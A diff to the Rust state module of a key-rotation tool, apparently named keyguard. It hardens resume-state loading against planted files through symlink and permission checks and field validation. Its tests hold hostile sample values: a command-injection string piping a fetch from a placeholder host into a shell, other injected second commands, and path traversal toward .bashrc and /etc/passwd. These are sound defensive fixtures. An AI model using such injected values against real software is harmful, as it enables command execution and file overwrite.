@@ -123,26 +123,103 @@ pub fn save(record_dir: &Path, state: &State) -> Result<(), StateError> {
         path: crate::sanitize::path(&p),
         detail,
     };
-    super::create_private_dir(&dir(record_dir)).map_err(|e| err(e.to_string()))?;
+    super::create_private_dir(record_dir)
+        .and_then(|()| super::create_private_dir(&dir(record_dir)))
+        .map_err(|e| err(e.to_string()))?;
     let mut bytes = serde_json::to_vec_pretty(state).map_err(|e| err(e.to_string()))?;
     bytes.push(b'\n');
-    crate::cmd::write_private_file(&p, &bytes).map_err(|e| err(format!("{e:#}")))
+    super::write_private(&p, &bytes).map_err(|e| err(format!("{e:#}")))
 }
 
+/// Loads the state of the run `id`, refusing anything keyguard would not have written itself.
+///
+/// The record directory is inside the repository by default, so a state file may be planted by
+/// whoever wrote the repository, and `--resume` acts on it: it names the keychain entry to
+/// revoke, the file the record is written to, and the names pasted into the deployment
+/// commands the user is told to run. So the file must be a regular file (no link) that only its
+/// owner can read, as keyguard writes it, and every field that reaches a path, a keychain
+/// lookup or a shell command must pass the checks fresh input passes.
 pub fn load(record_dir: &Path, id: &str) -> Result<State, StateError> {
     let p = path(record_dir, id);
-    let bytes = std::fs::read(&p).map_err(|e| StateError::Read {
+    let refuse = |detail: String| StateError::Read {
         path: crate::sanitize::path(&p),
-        detail: if e.kind() == std::io::ErrorKind::NotFound {
-            "no such rotation (ids are listed by `ls` in that directory)".into()
-        } else {
-            e.to_string()
-        },
-    })?;
-    serde_json::from_slice(&bytes).map_err(|e| StateError::Read {
-        path: crate::sanitize::path(&p),
-        detail: e.to_string(),
-    })
+        detail,
+    };
+    if !valid_id(id) {
+        return Err(refuse(
+            "not a rotation id (ids are listed by `ls` in that directory)".into(),
+        ));
+    }
+    super::refuse_symlinked_dir(record_dir)
+        .and_then(|()| super::refuse_symlinked_dir(&dir(record_dir)))
+        .map_err(|e| refuse(e.to_string()))?;
+    match std::fs::symlink_metadata(&p) {
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+            return Err(refuse(
+                "no such rotation (ids are listed by `ls` in that directory)".into(),
+            ));
+        }
+        Err(e) => return Err(refuse(e.to_string())),
+        Ok(m) if !m.file_type().is_file() => {
+            return Err(refuse(
+                "it is a symbolic link or not a regular file, so keyguard did not write it".into(),
+            ));
+        }
+        #[cfg(unix)]
+        Ok(m) if std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o077 != 0 => {
+            return Err(refuse(
+                "others may read or write it; keyguard writes its state readable by you only, \
+                 so it did not write this one (a repository can carry planted files)"
+                    .into(),
+            ));
+        }
+        Ok(_) => {}
+    }
+    let bytes = std::fs::read(&p).map_err(|e| refuse(e.to_string()))?;
+    let state: State = serde_json::from_slice(&bytes).map_err(|e| refuse(e.to_string()))?;
+    check(&state, id).map_err(refuse)?;
+    Ok(state)
+}
+
+/// A run id as `new_state` makes them: `<UTC stamp>-<provider>[-n]`.
+fn valid_id(id: &str) -> bool {
+    !id.is_empty()
+        && id.len() <= 100
+        && id
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
+}
+
+/// The checks fresh input passes, for the fields of a loaded state.
+fn check(state: &State, id: &str) -> Result<(), String> {
+    if state.id != id {
+        return Err("its run id does not match its file name".into());
+    }
+    if state.record != format!("{id}.md") {
+        return Err("its record file name is not the run's own".into());
+    }
+    if crate::providers::find(&state.provider).is_none() {
+        return Err(format!(
+            "unknown provider `{}`",
+            crate::sanitize::escape(&state.provider)
+        ));
+    }
+    let names = [
+        ("key name", Some(&state.key_name)),
+        ("profile", Some(&state.profile)),
+        ("admin key name", state.admin_key.as_ref()),
+    ];
+    for (what, value) in names {
+        if let Some(v) = value {
+            crate::keychain::check_name(what, v).map_err(|e| e.to_string())?;
+        }
+    }
+    super::deploy::check_env_name(&state.env_name)?;
+    let targets = super::deploy::parse_targets(&state.deploy)?;
+    if targets != state.deploy {
+        return Err("its deployment targets are not in keyguard's form".into());
+    }
+    Ok(())
 }
 
 /// The newest unfinished rotation in the record directory (ids sort by time).
@@ -177,6 +254,111 @@ pub fn latest_unfinished(record_dir: &Path) -> Result<State, StateError> {
 mod tests {
     use super::*;
 
+    fn sample(id: &str) -> State {
+        State {
+            version: 1,
+            id: id.into(),
+            provider: "groq".into(),
+            profile: "default".into(),
+            key_name: "groq".into(),
+            admin_key: None,
+            params: Default::default(),
+            deploy: vec!["fly".into()],
+            env_name: "GROQ_API_KEY".into(),
+            revoke_first: false,
+            repo: ".".into(),
+            audit: true,
+            record: format!("{id}.md"),
+            started_at: "2026-01-01T00:00:00Z".into(),
+            old: None,
+            new: None,
+            new_origin: None,
+            steps: vec![],
+            finished: false,
+        }
+    }
+
+    /// A repository can carry `.keyguard/incidents` as a link: nothing may be written through it.
+    #[cfg(unix)]
+    #[test]
+    fn records_and_state_are_never_written_through_a_symbolic_link() {
+        let dir = tempfile::tempdir().unwrap();
+        let elsewhere = dir.path().join("elsewhere");
+        std::fs::create_dir(&elsewhere).unwrap();
+        let linked = dir.path().join("incidents");
+        std::os::unix::fs::symlink(&elsewhere, &linked).unwrap();
+        let s = sample("20260101T000000Z-groq");
+        let e = save(&linked, &s).unwrap_err().to_string();
+        assert!(e.contains("symbolic link"), "{e}");
+        assert!(super::super::incident::write(&linked, &s, "Groq").is_err());
+        assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
+
+        // A link where the record file (or the state file) goes: refused, its target untouched.
+        let real = dir.path().join("real");
+        let target = dir.path().join("target-file");
+        std::fs::write(&target, "untouched").unwrap();
+        std::fs::create_dir_all(real.join(".state")).unwrap();
+        std::os::unix::fs::symlink(&target, real.join(&s.record)).unwrap();
+        assert!(super::super::incident::write(&real, &s, "Groq").is_err());
+        std::os::unix::fs::symlink(&target, path(&real, &s.id)).unwrap();
+        assert!(save(&real, &s).is_err());
+        assert_eq!(std::fs::read_to_string(&target).unwrap(), "untouched");
+        assert!(
+            std::fs::symlink_metadata(real.join(&s.record))
+                .unwrap()
+                .file_type()
+                .is_symlink()
+        );
+    }
+
+    /// `--resume` acts on the state file, which a repository could plant in its own
+    /// `.keyguard/incidents/.state`: only a file keyguard could have written is loaded.
+    #[cfg(unix)]
+    #[test]
+    fn planted_state_files_are_refused() {
+        use std::os::unix::fs::PermissionsExt;
+        let id = "20990101T000000Z-groq";
+        let plant = |mutate: &dyn Fn(&mut serde_json::Value), mode: u32| {
+            let dir = tempfile::tempdir().unwrap();
+            save(dir.path(), &sample(id)).unwrap();
+            let p = path(dir.path(), id);
+            let mut v: serde_json::Value =
+                serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
+            mutate(&mut v);
+            std::fs::write(&p, serde_json::to_vec(&v).unwrap()).unwrap();
+            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
+            (
+                load(dir.path(), id).map(|s| s.id),
+                latest_unfinished(dir.path()).is_ok(),
+            )
+        };
+        // Unchanged and private: loaded (the check is not refusing everything).
+        let (r, latest) = plant(&|_| {}, 0o600);
+        assert_eq!(r.unwrap(), id);
+        assert!(latest);
+        // As a git checkout leaves files: readable by others.
+        let (r, latest) = plant(&|_| {}, 0o644);
+        assert!(r.unwrap_err().to_string().contains("others"));
+        assert!(!latest);
+        let bad: &[(&str, serde_json::Value)] = &[
+            ("record", "../../../.bashrc".into()),
+            ("id", "20990101T000000Z-other".into()),
+            ("env_name", "X;curl example.invalid|sh;#".into()),
+            ("key_name", "groq;id".into()),
+            ("profile", "../x".into()),
+            ("deploy", serde_json::json!(["fly; id"])),
+            ("provider", "nonesuch".into()),
+        ];
+        for (field, value) in bad {
+            let (r, latest) = plant(&|v| v[*field] = value.clone(), 0o600);
+            assert!(r.is_err(), "{field} = {value} was loaded");
+            assert!(!latest, "{field} = {value} was resumable");
+        }
+        // A run id from the command line cannot name a file outside the state directory.
+        let dir = tempfile::tempdir().unwrap();
+        assert!(load(dir.path(), "../../etc/passwd").is_err());
+    }
+
     #[test]
     fn state_round_trips_privately_and_knows_finished_steps() {
         let dir = tempfile::tempdir().unwrap();
@@ -193,7 +375,7 @@ mod tests {
             revoke_first: false,
             repo: ".".into(),
             audit: true,
-            record: "x.md".into(),
+            record: "20260101T000000Z-groq.md".into(),
             started_at: "2026-01-01T00:00:00Z".into(),
             old: None,
             new: None,
